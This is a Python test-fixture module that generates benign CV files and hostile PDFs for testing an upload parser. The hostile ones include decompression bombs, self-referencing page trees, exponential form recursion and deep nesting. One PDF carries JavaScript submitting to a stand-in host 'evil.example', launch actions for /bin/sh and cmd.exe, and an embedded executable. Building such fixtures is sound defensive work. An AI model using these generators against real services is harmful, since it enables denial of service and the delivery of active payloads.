"""Makers of files that people and attackers send as a CV. Made when a test runs, so that no hostile file lies in git."""

import io
import struct
import zipfile
import zlib
from collections.abc import Sequence

from fpdf import FPDF
from PIL import Image, ImageDraw

Body = bytes | str
HELVETICA = b"<</Type/Font/Subtype/Type1/BaseFont/Helvetica>>"


def raw(objects: Sequence[Body], *, root: int = 1, header: bytes = b"%PDF-1.7\n", ending: bytes = b"%%EOF\n") -> bytes:
    """A PDF of these objects, numbered from 1, with a correct cross-reference table."""
    out, offsets = bytearray(header), []
    for number, body in enumerate(objects, 1):
        offsets.append(len(out))
        out += b"%d 0 obj\n%s\nendobj\n" % (number, body.encode("latin-1") if isinstance(body, str) else body)
    table = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    out += b"".join(b"%010d 00000 n \n" % offset for offset in offsets)
    out += b"trailer\n<</Size %d/Root %d 0 R>>\nstartxref\n%d\n" % (len(objects) + 1, root, table)
    return bytes(out + ending)


def stream(data: bytes, extra: str = "") -> bytes:
    return b"<</Length %d%s>>\nstream\n%s\nendstream" % (len(data), extra.encode(), data)


def shown(text: str) -> bytes:
    """A content stream that writes one line."""
    return b"BT /F1 18 Tf 72 720 Td (%s) Tj ET" % text.encode("latin-1")


def page(
    content: bytes | None = None, *, catalog: str = "", box: str = "0 0 595 842", more: Sequence[Body] = ()
) -> bytes:
    """A one-page PDF with this content stream (an object's body); `more` objects are numbered from 6."""
    return raw(
        [
            f"<</Type/Catalog/Pages 2 0 R{catalog}>>",
            "<</Type/Pages/Kids[3 0 R]/Count 1>>",
            f"<</Type/Page/Parent 2 0 R/MediaBox[{box}]/Contents 4 0 R/Resources<</Font<</F1 5 0 R>>/XObject<</I 6 0 R>>>>>>",
            content or stream(shown("Cleo Candidate, engineer")),
            HELVETICA,
            *more,
        ]
    )


# --- what people send ---------------------------------------------------------------------------------------------
def written(*, pages: int = 2, password: str = "", owner: str = "") -> bytes:
    """An ordinary CV of a few pages; with `password` it asks for one, with `owner` alone it opens without."""
    pdf = FPDF()
    if password or owner:
        pdf.set_encryption(owner_password=owner or "owner", user_password=password or None)
    pdf.set_font("helvetica", size=11)
    for number in range(1, pages + 1):
        pdf.add_page()
        pdf.multi_cell(0, 6, f"Cleo Candidate, page {number}\n" + "Built a payment service with tests.\n" * 40)
    return bytes(pdf.output())


def picture(kind: str = "JPEG") -> bytes:
    image = Image.new("RGB", (800, 1100), "white")
    ImageDraw.Draw(image).text((80, 80), "Cleo Candidate", fill="black")
    out = io.BytesIO()
    image.save(out, kind)
    return out.getvalue()


def scan() -> bytes:
    """A page that is only a picture, as phones and scanners make it."""
    image = stream(
        picture(),
        "/Type/XObject/Subtype/Image/Width 800/Height 1100/ColorSpace/DeviceRGB/BitsPerComponent 8/Filter/DCTDecode",
    )
    return page(stream(b"q 595 0 0 842 0 0 cm /I Do Q"), more=[image])


def outlines() -> bytes:
    """A page whose letters were turned into shapes: something to see, nothing to read."""
    return page(stream(b"72 700 200 20 re f 72 660 m 200 690 l S"))


def blank() -> bytes:
    return page(stream(b" "))


def form() -> bytes:
    """A form that was filled in: the words stand in a field, not on the page."""
    look = stream(
        b"/Tx BMC q BT /F1 12 Tf 2 5 Td (Cleo from the field) Tj ET Q EMC",
        "/Type/XObject/Subtype/Form/BBox[0 0 300 20]/Resources<</Font<</F1 5 0 R>>>>",
    )
    return raw(
        [
            "<</Type/Catalog/Pages 2 0 R/AcroForm<</Fields[6 0 R]/DR<</Font<</F1 5 0 R>>>>/DA(/F1 12 Tf 0 g)>>>>",
            "<</Type/Pages/Kids[3 0 R]/Count 1>>",
            "<</Type/Page/Parent 2 0 R/MediaBox[0 0 595 842]/Contents 4 0 R/Annots[6 0 R]/Resources<</Font<</F1 5 0 R>>>>>>",
            stream(shown("Name:")),
            HELVETICA,
            "<</Type/Annot/Subtype/Widget/FT/Tx/T(name)/V(Cleo from the field)/F 4/Rect[150 700 450 720]/P 3 0 R"
            "/DA(/F1 12 Tf 0 g)/AP<</N 7 0 R>>>>",
            look,
        ]
    )


def zipped(names: Sequence[str], first: bytes = b"<?xml version='1.0'?>") -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for name in names:
            archive.writestr(name, first * 200)
    return out.getvalue()


def docx() -> bytes:
    return zipped(["[Content_Types].xml", "_rels/.rels", "word/document.xml", "word/styles.xml"])


def odt() -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        archive.writestr("mimetype", "application/vnd.oasis.opendocument.text")
        archive.writestr("content.xml", "<office:document-content/>")
    return out.getvalue()


def ole(stream_name: str = "WordDocument") -> bytes:
    """An old Office file: header, one directory sector, padding."""
    header = bytearray(512)
    header[:8] = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"
    header[30:32] = struct.pack("<H", 9)
    header[48:52] = struct.pack("<I", 1)  # the directory begins in sector 1
    directory = b"".join(name.encode("utf-16-le").ljust(64, b"\0") + bytes(64) for name in ("Root Entry", stream_name))
    return bytes(header) + bytes(512) + directory.ljust(512, b"\0") + bytes(4096)


# --- what attackers send ------------------------------------------------------------------------------------------
def deflated(megabytes: int, byte: bytes = b" ") -> bytes:
    """So many megabytes of these bytes, over and over, as a zlib stream made from one repeated block."""
    block = (byte * 2**20)[: 2**20]
    packer = zlib.compressobj(9)
    piece = packer.compress(block) + packer.flush(zlib.Z_FULL_FLUSH)
    head, piece = piece[:2], piece[2:]
    check = 1
    for _number in range(megabytes):
        check = zlib.adler32(block, check)
    return head + piece * megabytes + b"\x03\x00" + struct.pack(">I", check)


def bomb(megabytes: int = 1200, byte: bytes = b" ") -> bytes:
    """A page whose content unpacks to more than any memory limit (packed twice: a few kilobytes to send)."""
    return page(stream(zlib.compress(deflated(megabytes, byte), 9), "/Filter[/FlateDecode/FlateDecode]"))


def picture_bomb(side: int = 30_000) -> bytes:
    """Readable text beside a picture that unpacks to gigabytes when it is drawn."""
    image = stream(
        zlib.compress(deflated(side * side * 3 // 2**20 + 1, b"\0"), 9),
        f"/Type/XObject/Subtype/Image/Width {side}/Height {side}/ColorSpace/DeviceRGB/BitsPerComponent 8"
        "/Filter[/FlateDecode/FlateDecode]",
    )
    return page(stream(shown("Cleo Candidate") + b" q 400 0 0 400 72 72 cm /I Do Q"), more=[image])


def many(pages: int = 10_000) -> bytes:
    kids = " ".join(f"{number} 0 R" for number in range(4, 4 + pages))
    return raw(
        [
            "<</Type/Catalog/Pages 2 0 R>>",
            f"<</Type/Pages/Kids[{kids}]/Count {pages}>>",
            HELVETICA,
            *["<</Type/Page/Parent 2 0 R/MediaBox[0 0 595 842]>>"] * pages,
        ]
    )


def lying_count() -> bytes:
    """Says nine pages and has one."""
    return page().replace(b"/Count 1>>", b"/Count 9>>")


def no_pages() -> bytes:
    return raw(["<</Type/Catalog/Pages 2 0 R>>", "<</Type/Pages/Kids[]/Count 0>>"])


def nested(depth: int = 200_000) -> bytes:
    """An object of arrays in arrays, as deep as a stack is."""
    return page(catalog="/Deep " + "[" * depth + "]" * depth)


def nested_content(depth: int = 500_000) -> bytes:
    return page(stream(b"q " * depth + b"[" * depth + shown("Cleo")))


def recursive_tree() -> bytes:
    """A page tree that is its own child."""
    return raw(["<</Type/Catalog/Pages 2 0 R>>", "<</Type/Pages/Kids[2 0 R 2 0 R]/Count 2/Parent 2 0 R>>"])


def wide_tree(depth: int = 40) -> bytes:
    """Each node has the next one twice as a child: 2 to the power of `depth` pages in a small file."""
    nodes = [f"<</Type/Pages/Kids[{n + 1} 0 R {n + 1} 0 R]/Count 2>>" for n in range(2, 2 + depth)]
    return raw(["<</Type/Catalog/Pages 2 0 R>>", *nodes, "<</Type/Page/MediaBox[0 0 595 842]>>"])


def recursive_form() -> bytes:
    """A drawing that draws itself, sixteen times."""
    body = stream(
        b"/I Do " * 16 + shown("Cleo"),
        "/Type/XObject/Subtype/Form/BBox[0 0 595 842]/Resources<</Font<</F1 5 0 R>>/XObject<</I 6 0 R>>>>",
    )
    return page(stream(b"/I Do"), more=[body])


def form_ladder(rungs: int = 12, times: int = 16) -> bytes:
    """Drawings that draw the next one sixteen times each: 16 to the power of `rungs` words in a small file."""

    def rung(n: int) -> bytes:
        inside = b"/I Do " * times if n < 6 + rungs else shown("Cleo")
        return stream(
            inside,
            f"/Type/XObject/Subtype/Form/BBox[0 0 595 842]/Resources<</Font<</F1 5 0 R>>/XObject<</I {n + 1} 0 R>>>>",
        )

    return page(stream(b"/I Do"), more=[rung(n) for n in range(6, 7 + rungs)])


def looping_xref() -> bytes:
    """Cross-reference tables that name each other as the previous one."""
    good = page()
    at = good.rindex(b"xref\n0")
    return good.replace(b"/Root 1 0 R>>", b"/Root 1 0 R/Prev %d>>" % at)


def active() -> bytes:
    """A readable page that would like to run a script, start a program and carry a file."""
    return page(
        catalog="/OpenAction 7 0 R/AA<</WC 8 0 R>>/Names<</JavaScript<</Names[(a)7 0 R]>>/EmbeddedFiles<</Names[(x.exe)9 0 R]>>>>",
        more=[
            stream(b""),
            "<</S/JavaScript/JS(app.alert\\(1\\);this.submitForm\\('http://evil.example/'\\))>>",
            "<</S/Launch/F(/bin/sh)/Win<</F(cmd.exe)>>>>",
            "<</Type/Filespec/F(x.exe)/EF<</F 10 0 R>>>>",
            stream(b"MZ", "/Type/EmbeddedFile"),
        ],
    )


def huge_page() -> bytes:
    return page(box="0 0 1000000 1000000")


def thin_page() -> bytes:
    return page(box="0 0 1 1000000")


def no_size() -> bytes:
    return page(box="0 0 0 0")


def odd_text() -> bytes:
    """A page whose letters stand for NUL, a lone surrogate, bidi controls, a zero-width space and an icon."""
    codes = {
        0x41: "0041",
        0x42: "0000",
        0x43: "D800",
        0x44: "202E",
        0x45: "2066",
        0x46: "200B",
        0x47: "E000",
        0x48: "FB01",
        0x49: "00650301",
    }
    cmap = "/CIDInit/ProcSet findresource begin 12 dict begin begincmap /CMapName/X def /CMapType 2 def\n"
    cmap += "1 begincodespacerange <00><FF> endcodespacerange\n"
    cmap += f"{len(codes)} beginbfchar\n" + "\n".join(f"<{k:02X}><{v}>" for k, v in codes.items())
    cmap += "\nendbfchar endcmap CMapName currentdict/CMap defineresource pop end end"
    font = (
        "<</Type/Font/Subtype/TrueType/BaseFont/Helvetica/FirstChar 65/LastChar 74/Widths["
        + "600 " * 10
        + "]/Encoding/WinAnsiEncoding/ToUnicode 6 0 R>>"
    )
    return raw(
        [
            "<</Type/Catalog/Pages 2 0 R>>",
            "<</Type/Pages/Kids[3 0 R]/Count 1>>",
            "<</Type/Page/Parent 2 0 R/MediaBox[0 0 595 842]/Contents 4 0 R/Resources<</Font<</F1 5 0 R>>>>>>",
            stream(shown("ABACADAEAFAGAHAI")),
            font,
            stream(cmap.encode()),
        ]
    )
